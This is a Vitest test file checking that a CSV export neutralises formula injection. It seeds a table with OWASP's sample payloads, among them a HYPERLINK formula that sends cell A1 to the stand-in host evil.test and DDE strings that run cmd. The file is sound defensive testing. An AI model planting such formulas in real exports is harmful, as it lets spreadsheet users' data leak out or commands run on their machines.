import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openNodeDatabase } from '../../../src/db/duckdb-node.ts';
import { exportTableCsv } from '../../../src/engine/csv-export.ts';
import type { Database } from '../../../src/engine/ports.ts';

let db: Database;
beforeAll(async () => {
  db = await openNodeDatabase();
  // OWASP's CSV-injection examples as product descriptions, beside harmless text and numbers.
  await db.query(`CREATE TABLE products AS SELECT * FROM (VALUES
    (1, '=HYPERLINK("http://evil.test/?x="&A1, "click")', -2.5),
    (2, '+cmd|'' /C calc''!A0', 3.0),
    (3, '-2+3', 4.0),
    (4, '@SUM(1+1)*cmd|'' /C calc''!A0', 5.0),
    (5, chr(9) || '=1+1', 6.0),
    (6, 'PINK = LOVELY @ HOME', 7.0),
    (7, NULL, 8.0)
  ) t(id, description, price)`);
});
afterAll(async () => {
  await db.close();
});

const text = async (formulas?: 'neutralise' | 'keep'): Promise<string[]> =>
  new TextDecoder().decode(await exportTableCsv(db, 'products', formulas)).trimEnd().split('\n');

describe('CSV export (issue #13 item 19)', () => {
  it("prefixes text that starts like a formula with ', and leaves numbers and other text alone", async () => {
    expect(await text()).toEqual([
      'id,description,price',
      `1,"'=HYPERLINK(""http://evil.test/?x=""&A1, ""click"")",-2.5`,
      `2,'+cmd|' /C calc'!A0,3.0`,
      `3,'-2+3,4.0`,
      `4,'@SUM(1+1)*cmd|' /C calc'!A0,5.0`,
      `5,'\t=1+1,6.0`,
      '6,PINK = LOVELY @ HOME,7.0',
      '7,,8.0',
    ]);
  });

  it('keeps every value as it is when asked', async () => {
    const lines = await text('keep');
    expect(lines[1]).toBe('1,"=HYPERLINK(""http://evil.test/?x=""&A1, ""click"")",-2.5');
    expect(lines[2]).toBe("2,+cmd|' /C calc'!A0,3.0");
  });
});
